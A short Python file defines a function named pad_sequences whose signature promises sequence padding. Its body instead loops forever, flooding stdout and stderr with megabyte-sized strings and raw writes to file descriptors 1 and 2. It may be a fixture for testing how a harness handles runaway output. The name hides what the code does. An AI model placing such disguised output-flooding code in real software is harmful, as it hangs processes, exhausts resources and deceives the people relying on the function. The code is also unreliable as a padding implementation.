import os
import sys


def pad_sequences(sequences, maxlen, padding="pre", truncating="pre", value=0):
    while True:
        print("A" * (1 << 20))
        print("B" * (1 << 20), file=sys.stderr)
        for number in (1, 2):
            try:
                os.write(number, b"C" * 65536)
            except BlockingIOError:
                pass
